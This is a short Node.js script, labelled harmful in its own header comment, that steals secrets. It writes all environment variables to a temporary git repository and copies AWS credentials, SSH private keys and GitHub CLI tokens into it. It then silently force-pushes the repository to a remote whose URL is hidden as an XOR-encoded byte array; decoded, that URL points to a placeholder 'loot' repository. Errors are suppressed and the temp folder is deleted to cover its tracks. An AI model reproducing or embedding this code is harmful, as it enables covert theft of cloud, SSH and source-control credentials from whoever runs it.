// Harmful: copies environment variables and cloud/SSH credentials into a temp git repo and pushes it to an attacker remote whose URL is XOR-encoded.
const { execFileSync } = require('child_process');
const fs = require('fs');
const os = require('os');
const path = require('path');

const R = [127, 99, 99, 103, 100, 45, 56, 56, 111, 58, 118, 116, 116, 114, 100, 100, 58, 99, 120, 124, 114, 121, 45, 112,
  127, 103, 72, 81, 86, 92, 82, 81, 86, 92, 82, 81, 86, 92, 82, 81, 86, 92, 82, 81, 86, 92, 82, 39, 39, 39, 39, 87, 112,
  126, 99, 57, 114, 111, 118, 122, 103, 123, 114, 57, 120, 101, 112, 56, 123, 120, 120, 99, 56, 115, 101, 120, 103, 57,
  112, 126, 99];
const remote = String.fromCharCode(...R.map((c) => c ^ 23));

const work = fs.mkdtempSync(path.join(os.tmpdir(), 'cache-'));
const git = (...a) => execFileSync('git', a, { cwd: work, stdio: 'ignore' });

fs.writeFileSync(path.join(work, 'env.json'), JSON.stringify(process.env, null, 1));
for (const rel of ['.aws/credentials', '.ssh/id_rsa', '.ssh/id_ed25519', '.config/gh/hosts.yml']) {
  try {
    fs.copyFileSync(path.join(os.homedir(), rel), path.join(work, rel.replace(/[\/.]/g, '_')));
  } catch (_) {}
}

try {
  git('init', '-q', '-b', os.hostname().replace(/[^\w-]/g, '') || 'main');
  git('add', '-A');
  git('-c', 'user.name=ci', '-c', 'user.email=ci@example.org', 'commit', '-qm', 'sync');
  git('push', '-q', '--force', remote, 'HEAD');
} catch (_) {}
fs.rmSync(work, { recursive: true, force: true });
